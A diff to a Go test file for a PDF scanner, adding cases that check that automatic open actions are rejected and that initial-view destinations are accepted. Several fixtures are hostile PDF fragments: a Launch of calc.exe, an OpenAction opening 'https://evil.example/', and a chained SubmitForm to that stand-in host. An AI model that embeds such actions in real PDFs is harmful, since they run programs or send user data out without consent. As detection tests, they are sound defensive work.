@@ -82,7 +82,10 @@ func TestScanPDFRefusesActiveContent(t *testing.T) {
 		{"launch", pdfWith("3 0 obj << /Type /Action /S /Launch /F (calc.exe) >> endobj"), "launch action"},
 		{"embedded file", pdfWith("3 0 obj << /Type /EmbeddedFile /Length 3 >> endobj"), "embedded file"},
 		{"embedded files", pdfWith("3 0 obj << /Names << /EmbeddedFiles 4 0 R >> >> endobj"), "embedded files"},
-		{"open action", pdfWith("3 0 obj << /OpenAction 4 0 R >> endobj"), "on opening"},
+		{"open action to nothing", pdfWith("3 0 obj << /OpenAction 4 0 R >> endobj"), "on opening"},
+		{"open action opening a web page", pdfWith("3 0 obj << /OpenAction << /S /URI /URI (https://evil.example/) >> >> endobj"), "on opening"},
+		{"open action going on to more", pdfWith("3 0 obj << /OpenAction << /S /GoTo /D [2 0 R /Fit] /Next 4 0 R >> >> endobj",
+			"4 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj"), "on opening"},
 		{"additional actions, no space", pdfWith("3 0 obj <</Type/Page/AA<</O 4 0 R>>>> endobj"), "automatic action"},
 		{"in an object stream", pdfWith(streamObj(3, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflate(t, js))), "JavaScript"},
 		{"filter name escaped", pdfWith(streamObj(3, "/Type /ObjStm /N 1 /First 4 /Filter /Fl#61teDecode", deflate(t, js))), "JavaScript"},
@@ -96,6 +99,21 @@ func TestScanPDFRefusesActiveContent(t *testing.T) {
 		var pe *PDFError
 		if !errors.Is(err, ErrActiveContent) || !errors.As(err, &pe) || !strings.Contains(pe.Feature, tc.want) {
 			t.Errorf("%s: %v, want active content %q", tc.name, err, tc.want)
+		}
+	}
+}
+
+// What an office suite writes to open at a page and zoom is no action: the
+// initial view, as a destination or a GoTo to one, passes.
+func TestScanPDFLetsAnInitialViewThrough(t *testing.T) {
+	t.Parallel()
+	for name, pdf := range map[string][]byte{
+		"destination":              pdfWith("3 0 obj << /OpenAction [2 0 R /FitH null] >> endobj"),
+		"destination by reference": pdfWith("3 0 obj << /OpenAction 4 0 R >> endobj", "4 0 obj [2 0 R /Fit] endobj"),
+		"GoTo action":              pdfWith("3 0 obj << /OpenAction << /S /GoTo /D [2 0 R /Fit] >> >> endobj"),
+	} {
+		if err := ScanPDF(pdf); err != nil {
+			t.Errorf("%s: %v, want it accepted", name, err)
 		}
 	}
 }
